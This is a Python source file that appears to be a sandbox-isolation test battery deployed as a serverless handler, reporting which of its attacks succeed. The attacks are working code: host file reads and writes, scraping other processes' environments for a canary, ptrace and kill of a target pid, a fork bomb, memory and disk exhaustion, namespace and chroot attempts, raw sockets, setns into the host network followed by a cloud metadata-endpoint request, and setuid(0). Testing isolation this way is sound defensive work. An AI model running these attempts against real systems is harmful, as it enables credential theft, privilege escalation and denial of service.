"""The attacks of the battery from Python, in a sandbox that was started before anybody knew whose it would be."""
import ctypes
import glob
import json
import os
import socket
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWNET = 0x00020000, 0x10000000, 0x40000000


class Refused(Exception):
    pass


def call(name, *args):
    """Calls the C library, as no Python function would."""
    if getattr(libc, name)(*args) == -1:
        raise Refused(os.strerror(ctypes.get_errno()))
    return name + " was done"


def in_child(what):
    """Does something in a child, which has one thread."""
    pid = os.fork()
    if pid == 0:
        try:
            what()
            os._exit(0)
        except BaseException:
            os._exit(1)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) != 0:
        raise Refused("in a child")
    return "in a child"


def read(name):
    with open(name) as f:
        return f.read(300)


def environments(order):
    for name in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(name, errors="replace") as f:
                text = f.read()
        except OSError:
            continue
        if "BATTERY_CANARY" in text:
            return text[text.index("BATTERY_CANARY"):][:100]
    raise Refused("none has it")


def write(name):
    with open(name, "w") as f:
        f.write("x")
    return name


def forks(order):
    children = []
    try:
        for _ in range(300):
            pid = os.fork()
            if pid == 0:
                while True:
                    libc.pause()
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
    return f"{len(children)} processes"


def fill(order):
    names = []
    try:
        for i in range(16):
            names.append(f"/tmp/battery-{i}")
            with open(names[-1], "wb") as f:
                f.write(bytes(1 << 20))
    finally:
        for name in names:
            os.path.exists(name) and os.remove(name)
    return "16 MB"


def metadata(order):
    # Without walls the host's network can be entered; behind them that is refused, and the sandbox's own has no way out.
    try:
        with open("/proc/1/ns/net") as ns:
            call("setns", ns.fileno(), NEWNET)
    except (OSError, Refused):
        pass
    with socket.create_connection(("169.254.169.254", 80), 3) as s:
        s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
        return s.recv(1000).decode()


def socket_of(*kind):
    with socket.socket(*kind):
        return "a socket"


ATTACKS = {
    "read host file": lambda o: read(o["secret"]),
    "write host file": lambda o: write(o["drop"] + "/written"),
    "write own code": lambda o: os.remove(write("/var/task/mark")) or "written",
    "read environment": environments,
    "signal": lambda o: os.kill(int(o["pid"]), 9) or "sent",
    "ptrace": lambda o: call("ptrace", 0x4206, int(o["pid"]), 0, 0),
    "fork bomb": forks,
    "memory": lambda o: f"{len(bytearray(os.urandom(1 << 20) * 512))} bytes",
    "large file": fill,
    "unshare user": lambda o: in_child(lambda: call("unshare", NEWUSER)),
    "unshare mount": lambda o: in_child(lambda: call("unshare", NEWNS)),
    "mount tmpfs": lambda o: in_child(lambda: (call("unshare", NEWNS), call("mount", b"none", b"/tmp", b"tmpfs", 0, None))),
    "chroot": lambda o: in_child(lambda: call("chroot", b"/tmp")),
    "keyring": lambda o: call("syscall", 248 if os.uname().machine == "x86_64" else 217, b"user", b"battery", b"x", 1, -2),
    "raw socket": lambda o: socket_of(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "packet socket": lambda o: socket_of(socket.AF_PACKET, socket.SOCK_RAW),
    "metadata": metadata,
    "exec program": lambda o: subprocess.run(["/bin/echo", "ran"], check=True, capture_output=True).stdout.decode(),
    "exec shell": lambda o: os.popen("echo ran").read() or (_ for _ in ()).throw(Refused("nothing ran")),
    "capabilities": lambda o: open("/proc/self/status").read().split("CapEff:\t")[1][:16].strip("0") or (_ for _ in ()).throw(Refused("none")),
    "become root": lambda o: in_child(lambda: (os.setuid(0), os.getuid() == 0 or os._exit(1))),
}


def handler(event, context):
    order = json.loads(event["body"])
    try:
        return {"worked": True, "detail": str(ATTACKS[order["attack"]](order))}
    except (OSError, Refused, MemoryError, RuntimeError) as e:
        return {"worked": False, "detail": f"{type(e).__name__}: {e}"}
